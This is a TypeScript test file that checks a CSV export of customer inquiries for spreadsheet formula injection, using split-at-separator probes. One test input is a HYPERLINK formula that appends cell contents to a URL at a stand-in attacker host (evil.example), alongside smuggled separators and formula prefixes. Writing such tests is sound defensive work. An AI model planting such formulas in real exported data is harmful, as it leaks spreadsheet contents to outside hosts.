import type { Inquiry } from '@orbit-vine/contract/inquiries.ts';
import { expect, it } from 'vitest';
import { csvOf } from './csv.ts';

const inquiry = (name: string): Inquiry => ({
  id: '00000000-0000-4000-8000-000000000001',
  name,
  company: '',
  email: 'ann@example.com',
  goals: 'More data',
  practices: [],
  state: 'new',
  mail: null,
  createdAt: '2026-11-21T00:00:00.000Z',
});
/** What a spreadsheet that splits at `separator` and heeds no quotes makes cells of. */
const cellsOf = (name: string, separator: RegExp) =>
  csvOf([inquiry(name)])
    .split(separator)
    .map((cell) => cell.replace(/^[\s"]+/, ''));

it.each([
  '=1+2',
  ' =1+2',
  'Ann;=HYPERLINK("http://evil.example?"&A1);x',
  'x;"=1+2"',
  'x\t=1+2',
  'x\r\n+1',
  'x|@SUM(1)',
  'x; ＝1',
])('no cell of %j begins a formula, wherever a spreadsheet splits', (name) => {
  for (const separator of [/,/, /;/, /\t/, /[\r\n]/, /\|/])
    expect(cellsOf(name, separator).filter((cell) => /^[=+@＝＋－＠-]/.test(cell))).toEqual([]);
});

it('the table leaves other words as they are', () => {
  expect(csvOf([inquiry('Ann "B" Lee; of A-B, Ohio')])).toContain('"Ann ""B"" Lee; of A-B, Ohio"');
});
